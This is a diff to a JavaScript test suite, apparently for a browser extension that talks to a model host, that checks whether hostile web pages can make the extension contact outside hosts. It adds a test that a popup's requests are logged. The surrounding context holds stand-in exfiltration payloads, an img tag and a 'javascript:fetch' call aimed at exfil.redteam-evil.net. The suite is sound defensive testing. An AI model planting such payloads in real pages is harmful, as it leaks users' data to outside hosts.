@@ -531,6 +531,18 @@ describe('the red team: hostile pages (issue 11)', () => {
       expect(titles).toContain('<img src=http://exfil.redteam-evil.net/markup-in-text/title.png');
       expect(titles).toContain("javascript:fetch('http://exfil.redteam-evil.net");
     });
+
+    test('the popup was watched too (control, last: its probe is a resource the popup loaded)', async () => {
+      const label = await waitFor('the popup in the network log', () =>
+        Promise.resolve(log.contexts().find((c) => c.includes('/popup.html'))),
+      );
+      await log.probe(`http://probe.${DOMAIN}:${port}/rt-probe`);
+      await waitFor('a probe from the popup in the log', () =>
+        Promise.resolve(
+          log.requests.some((r) => r.from === label && r.url.includes('/rt-probe?from=')),
+        ),
+      );
+    });
   });
 
   test('no extension context reached any host but the model host', () => {
